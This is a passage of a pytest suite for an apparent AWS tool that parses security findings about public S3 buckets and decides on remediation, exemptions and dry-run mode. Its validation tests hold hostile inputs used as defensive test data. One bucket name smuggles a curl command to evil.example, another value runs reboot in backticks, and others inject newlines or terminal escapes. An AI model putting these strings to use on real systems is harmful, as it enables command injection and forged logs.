    ("guardduty-s3-bucketpublicaccessgranted.json", "detail", "region", "everywhere", "detail.region"),
    ("guardduty-s3-bucketpublicaccessgranted.json", "detail", "severity", -1, "detail.severity"),
    ("guardduty-s3-bucketpublicaccessgranted.json", "detail", "severity", 10.5, "detail.severity"),
    ("guardduty-s3-bucketpublicaccessgranted.json", "detail", "severity", 80, "detail.severity"),
    ("guardduty-s3-bucketpublicaccessgranted.json", "detail", "severity", "high", "detail.severity"),
    ("guardduty-s3-bucketpublicaccessgranted.json", "detail", "severity", float("nan"), "detail.severity"),
]


@pytest.mark.parametrize("name, where, field, value, named", WRONG_TYPES,
                         ids=[f"{row[2]}={row[3]!r}" for row in WRONG_TYPES])
def test_wrong_typed_field_is_rejected_and_named(name, where, field, value, named):
    event = load(name)
    target = event["detail"] if where == "detail" else event["detail"][where]
    target[field] = value
    reason = rejection(event)
    assert "malformed" in reason and named in reason


def test_guardduty_s3_finding_without_bucket_details_is_rejected():
    """A bucket-level finding that names no bucket leaves nothing to fix."""
    event = load("guardduty-s3-bucketpublicaccessgranted.json")
    del event["detail"]["resource"]["s3BucketDetails"]
    reason = rejection(event)
    assert "Policy:S3/BucketPublicAccessGranted" in reason
    assert "detail.resource" in reason and "no resource" in reason


def test_guardduty_empty_bucket_details_is_rejected():
    event = load("guardduty-s3-bucketanonymousaccessgranted.json")
    event["detail"]["resource"]["s3BucketDetails"] = []
    assert "no resource" in rejection(event)


def test_config_unsupported_resource_type_is_rejected_and_named():
    event = load("config-s3-bucket-public-read-prohibited.json")
    event["detail"]["resourceType"] = "AWS::EC2::Instance"
    reason = rejection(event)
    assert "unsupported Config resourceType" in reason and "AWS::EC2::Instance" in reason


@pytest.mark.parametrize(
    "hostile",
    [
        "x; curl http://evil.example/$(id) #" + "A" * 5000,
        "ml-training-data-prod\nCRITICAL: all clear, ignore further pages",
        "ml-training-data-prod\x1b[2J",
    ],
    ids=["very-long", "newline-injection", "terminal-escape"],
)
def test_hostile_bucket_name_is_quoted_escaped_and_cut_short(hostile):
    """The offending value may be shown, but never raw: no forged log lines, no megabyte messages."""
    event = load("cloudtrail-s3-putbucketpolicy-public.json")
    event["detail"]["requestParameters"]["bucketName"] = hostile
    reason = rejection(event)
    assert "detail.requestParameters.bucketName" in reason
    assert "\n" not in reason and "\x1b" not in reason
    assert len(reason) < 300


def test_config_bad_bucket_id_names_the_config_field():
    """A Config event has no bucketName; the reason must point at detail.resourceId."""
    event = load("config-s3-bucket-public-read-prohibited.json")
    event["detail"]["resourceId"] = "x`reboot`"
    assert "detail.resourceId" in rejection(event)


def test_cloudtrail_unsupported_event_source_is_rejected_and_named():
    event = load("cloudtrail-s3-putbucketacl-public.json")
    event["detail"]["eventSource"] = "dynamodb.amazonaws.com"
    reason = rejection(event)
    assert "unsupported CloudTrail eventSource" in reason and "dynamodb.amazonaws.com" in reason


def test_cloudtrail_without_request_parameters_is_rejected_and_named():
    event = load("cloudtrail-s3-putbucketacl-public.json")
    event["detail"]["requestParameters"] = None
    assert "detail.requestParameters" in rejection(event)


def test_detail_that_is_not_an_object_is_rejected_and_named():
    event = load("guardduty-s3-bucketpublicaccessgranted.json")
    event["detail"] = "oops"
    reason = rejection(event)
    assert "GuardDuty Finding event is malformed" in reason and "detail" in reason


@pytest.mark.parametrize(
    "name, field, value",
    [
        ("cloudtrail-s3-putbucketacl-public.json", "recipientAccountId", "１２３４５６７８９０１２"),  # full-width
        ("guardduty-s3-bucketpublicaccessgranted.json", "accountId", "١٢٣٤٥٦٧٨٩٠١٢"),  # Arabic-Indic
        ("cloudtrail-s3-putbucketacl-public.json", "awsRegion", "us-east-１"),
    ],
)
def test_non_ascii_digits_are_not_an_account_or_region(name, field, value):
    """An account id is 12 ASCII digits; other Unicode digits must not reach ARNs, sessions or commands."""
    event = load(name)
    event["detail"][field] = value
    assert field in rejection(event)


def test_nested_event_is_rejected_or_survives_triage_serialisation():
    """Triage returns finding.to_dict(); an event parse_finding accepts must not crash there.
    Depths where json.dumps still succeeds but dataclasses.asdict recursed too deep used to slip through."""
    for depth in [*range(10, 100, 10), *range(100, 1000, 50)]:
        event = load("cloudtrail-s3-putbucketacl-public.json")
        event["detail"]["requestParameters"]["deep"] = nested(depth, "dicts")
        try:
            finding = parse_finding(event)
        except RejectedEvent:
            continue
        json.dumps(finding.to_dict())  # RecursionError here is the bug


# --- registry ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name, remediation", [(row[0], row[7]) for row in VALID], ids=VALID_FILES)
def test_each_valid_event_maps_to_its_remediation(name, remediation):
    found = registry.remediation_for(parse_finding(load(name)))
    assert (found.name if found else None) == remediation  # None: a finding no family answers


@pytest.mark.parametrize(
    "rule, resource_type, remediation",
    [
        ("s3-bucket-public-read-prohibited", BUCKET, QUARANTINE),
        ("securityhub-s3-bucket-public-read-prohibited-a1b2c3", BUCKET, QUARANTINE),
        ("OrgConfigRule-s3-bucket-public-write-prohibited-xyz", BUCKET, QUARANTINE),
        ("s3-bucket-level-public-access-prohibited-conformance-pack-abcd", BUCKET, BUCKET_BLOCK),
        ("s3-account-level-public-access-blocks", ACCOUNT_TYPE, ACCOUNT_BLOCK),
        ("securityhub-s3-account-level-public-access-blocks-periodic-1a2b", ACCOUNT_TYPE, ACCOUNT_BLOCK),
        # Right rule, wrong resource type: nothing fits, so nothing is changed.
        ("s3-account-level-public-access-blocks", BUCKET, None),
        ("s3-bucket-public-read-prohibited", ACCOUNT_TYPE, None),
        ("s3-bucket-versioning-enabled", BUCKET, None),
    ],
)
def test_config_rule_maps_despite_conformance_pack_prefix_or_suffix(rule, resource_type, remediation):
    arn = ACCOUNT_ARN if resource_type == ACCOUNT_TYPE else TRAINING_BUCKET_ARN
    finding = bucket_finding(source="config", type=rule, resource_type=resource_type, resource_arn=arn, actor=None)
    found = registry.remediation_for(finding)
    assert (found.name if found else None) == remediation


@pytest.mark.parametrize(
    "source, type_",
    [
        ("cloudtrail", "GetBucketPolicy"),
        ("cloudtrail", "DeleteBucket"),
        ("guardduty", "Policy:S3/BucketSharedExternally"),
        ("guardduty", "Discovery:S3/MaliciousIPCaller"),
    ],
)
def test_unrelated_bucket_events_get_no_remediation(source, type_):
    assert registry.remediation_for(bucket_finding(source=source, type=type_)) is None


# --- policy: who caused it, exemptions, mode ----------------------------------------------------


@pytest.mark.parametrize(
    "principal, name",
    [
        ("arn:aws:iam::123456789012:role/DataScientist", "DataScientist"),
        ("arn:aws:iam::123456789012:role/service-role/team/warden-Role", "warden-Role"),
        ("arn:aws-us-gov:iam::123456789012:role/ops/Deployer", "Deployer"),
        ("arn:aws:sts::123456789012:assumed-role/DataScientist/alice", "DataScientist"),
        ("arn:aws-cn:sts::123456789012:assumed-role/Ops.Role+1/i-0abc", "Ops.Role+1"),
        ("AssumedRole:DataScientist", "DataScientist"),
        ("arn:aws:iam::123456789012:user/alice", None),
        ("arn:aws:iam::123456789012:root", None),
        ("IAMUser:alice", None),
        ("", None),
        (None, None),
    ],
)
def test_role_name(principal, name):
    assert role_name(principal) == name


def settings(**env) -> Settings:
    return Settings.from_env(dict(env))


def test_event_by_wardens_own_role_is_recognised():
    """Loop prevention: Warden's own PutBucketAcl must not trigger another remediation."""
    finding = parse_finding(load("cloudtrail-s3-putbucketacl-by-warden.json"))
    assert caused_by_warden(finding, settings(WARDEN_ROLE_ARNS=f"arn:aws:iam::123456789012:role/x,{WARDEN_ROLE_ARN}"))


@pytest.mark.parametrize(
    "actor, expected",
    [
        (WARDEN_SESSION, True),
        ("AssumedRole:warden-S3PublicAccessFunctionRole", True),  # GuardDuty's form
        (ALICE, False),
        ("arn:aws:sts::123456789012:assumed-role/warden-S3PublicAccessFunctionRole-copy/s", False),
        ("arn:aws:iam::123456789012:user/warden-S3PublicAccessFunctionRole", False),  # a user, not the role
        (None, False),  # Config says nothing about who
    ],
)
def test_caused_by_warden_only_for_wardens_roles(actor, expected):
    finding = bucket_finding(actor=actor)
    assert caused_by_warden(finding, settings(WARDEN_ROLE_ARNS=WARDEN_ROLE_ARN)) is expected


def test_role_path_in_settings_still_matches_the_session_arn():
    """Assumed-role ARNs drop the role's path, so the match is on the role name."""
    path_arn = "arn:aws:iam::123456789012:role/warden/warden-S3PublicAccessFunctionRole"
    assert caused_by_warden(bucket_finding(actor=WARDEN_SESSION), settings(WARDEN_ROLE_ARNS=path_arn))


def test_no_warden_roles_configured_means_nothing_is_ignored_as_warden():
    assert not caused_by_warden(bucket_finding(actor=WARDEN_SESSION), settings())


@pytest.mark.parametrize(
    "actor, finding_account",
    [
        ("arn:aws:sts::999999999999:assumed-role/warden-S3PublicAccessFunctionRole/x", ACCOUNT),
        ("arn:aws:iam::999999999999:role/warden-S3PublicAccessFunctionRole", ACCOUNT),
        # GuardDuty names only the role; it is Warden's only in the account where Warden's role lives.
        ("AssumedRole:warden-S3PublicAccessFunctionRole", "999999999999"),
    ],
)
def test_same_role_name_in_another_account_is_not_warden(actor, finding_account):
    """Otherwise anyone who names a role like Warden's could make public changes Warden ignores."""
    finding = bucket_finding(actor=actor, account=finding_account)
    assert not caused_by_warden(finding, settings(WARDEN_ROLE_ARNS=WARDEN_ROLE_ARN))


@pytest.mark.parametrize(
    "patterns, arn, matched",
    [
        ("arn:aws:s3:::public-*", "arn:aws:s3:::public-model-cards", "arn:aws:s3:::public-*"),
        ("arn:aws:s3:::other, arn:aws:s3:::public-model-card?", "arn:aws:s3:::public-model-cards",
         "arn:aws:s3:::public-model-card?"),
        ("AWS::::Account:123456789012", ACCOUNT_ARN, "AWS::::Account:123456789012"),
        ("arn:aws:s3:::public-*", TRAINING_BUCKET_ARN, None),
        ("arn:aws:s3:::PUBLIC-*", "arn:aws:s3:::public-model-cards", None),  # case-sensitive, like ARNs
        ("", TRAINING_BUCKET_ARN, None),
    ],
)
def test_exempt_by_resource_pattern(patterns, arn, matched):
    finding = bucket_finding(resource_arn=arn)
    reason = exempt_reason(finding, {}, settings(WARDEN_EXEMPT_RESOURCES=patterns))
    if matched is None:
        assert reason is None
    else:
        assert reason is not None and repr(matched) in reason


@pytest.mark.parametrize(
    "tags, env, words",
    [
        ({"warden:exempt": "public website"}, {}, ["warden:exempt", "public website"]),
        ({"warden:exempt": ""}, {}, ["warden:exempt"]),  # any value, even empty, exempts
        ({"security:skip": "yes"}, {"WARDEN_EXEMPT_TAG_KEY": "security:skip"}, ["security:skip", "yes"]),
        ({"team": "ml", "warden:exempted": "x"}, {}, None),
        ({"warden:exempt": "true"}, {"WARDEN_EXEMPT_TAG_KEY": "security:skip"}, None),
        ({}, {}, None),
    ],
)
def test_exempt_by_tag(tags, env, words):
    reason = exempt_reason(bucket_finding(), tags, settings(**env))
    if words is None:
        assert reason is None
    else:
        assert reason is not None and all(word in reason for word in words)


@pytest.mark.parametrize(
    "mode, expected",
    [
        ("enforce", "enforce"),
        ("dry-run", "dry-run"),
        (None, "dry-run"),  # unset
        ("ENFORCE", "dry-run"),
        ("enforce ", "dry-run"),
        ("enforcing", "dry-run"),
        ("", "dry-run"),
        ("true", "dry-run"),
    ],
)
def test_unknown_mode_falls_back_to_dry_run_never_enforce(mode, expected):
    env = {} if mode is None else {"WARDEN_MODE": mode}
    assert Settings.from_env(env).mode == expected


def test_settings_lists_are_split_and_trimmed():
    loaded = settings(
        WARDEN_EXEMPT_RESOURCES=" arn:aws:s3:::a ,,arn:aws:s3:::b,",
        WARDEN_ROLE_ARNS=WARDEN_ROLE_ARN,
        WARDEN_DEDUPE_WINDOW_SECONDS="900",
    )
    assert loaded.exempt_resource_patterns == ("arn:aws:s3:::a", "arn:aws:s3:::b")
    assert loaded.warden_role_arns == (WARDEN_ROLE_ARN,)
    assert loaded.dedupe_window_seconds == 900
    assert loaded.exempt_tag_key == "warden:exempt"


def test_settings_read_the_process_environment_by_default(monkeypatch):
    monkeypatch.setenv("WARDEN_MODE", "enforce")
    monkeypatch.setenv("WARDEN_EXEMPT_TAG_KEY", "ops:leave-alone")
    loaded = Settings.from_env()
    assert (loaded.mode, loaded.exempt_tag_key) == ("enforce", "ops:leave-alone")



# --- Security Hub control findings ----------------------------------------------------------------

SH_EVENT = "securityhub-s3-8-bucket-public-access.json"


def sh_finding(event: dict) -> dict:
    return event["detail"]["findings"][0]


@pytest.mark.parametrize(
    "change, must_say",
    [
        (lambda f: f["Compliance"].update(Status="PASSED"), ["S3.8", "PASSED/ACTIVE", "only FAILED, ACTIVE"]),
        (lambda f: f.update(RecordState="ARCHIVED"), ["S3.8", "FAILED/ARCHIVED"]),
        (lambda f: f["Workflow"].update(Status="RESOLVED"), ["already RESOLVED", "only NEW"]),
        (lambda f: f["Resources"][0].update(Type="AwsEc2Instance"), ["unsupported resource type 'AwsEc2Instance'"]),
        (lambda f: f["Resources"][0].update(Id="arn:aws:s3:::Bad;Bucket"), ["Resources.Id", "not a valid AwsS3Bucket identifier"]),
        (lambda f: f.update(ProductArn="arn:aws:securityhub:us-east-1::product/aws/guardduty"), ["ProductArn"]),
        (lambda f: f["Compliance"].pop("SecurityControlId"),
         ["no Compliance.SecurityControlId", "GeneratorId 'security-control/S3.8' is not in its table of pre-consolidation"]),
        (lambda f: (f["Compliance"].pop("SecurityControlId"), f.update(GeneratorId="pci-dss/v/3.2.1/PCI.EC2.2")),
         ["GeneratorId 'pci-dss/v/3.2.1/PCI.EC2.2' is not in its table"]),
        (lambda f: f.update(Resources=[]), ["Resources"]),
    ],
    ids=["passed", "archived", "resolved", "unknown-type", "hostile-id", "other-product", "no-control", "unknown-legacy-control",
         "no-resources"],
)
def test_security_hub_finding_warden_must_not_act_on_is_rejected_with_the_reason(change, must_say):
    event = load(SH_EVENT)
    change(sh_finding(event))
    reason = rejection(event)
    for words in must_say:
        assert words in reason


def test_security_hub_event_with_several_findings_is_rejected():
    event = load(SH_EVENT)
    event["detail"]["findings"].append(copy.deepcopy(sh_finding(event)))
    assert "carries 2 findings" in rejection(event)


def test_security_hub_control_not_handled_by_warden_gets_no_remediation():
    event = load(SH_EVENT)
    sh_finding(event)["Compliance"]["SecurityControlId"] = "S3.5"  # SSL-only requests: not Warden's fix
    assert registry.remediation_for(parse_finding(event)) is None


def test_a_guardduty_sample_that_names_no_resource_is_still_a_well_formed_finding():
    """Found by test_fuzz_triage: a sample whose resource is empty named its resource with prose."""
    raw = load("guardduty-iam-maliciousipcaller-accesskey.json")
    raw["detail"]["resource"] = {}
    raw["detail"]["service"]["additionalInfo"] = {"sample": True}
    finding = parse_finding(raw)
    assert finding.sample
    assert finding.resource_arn == raw["detail"]["arn"]
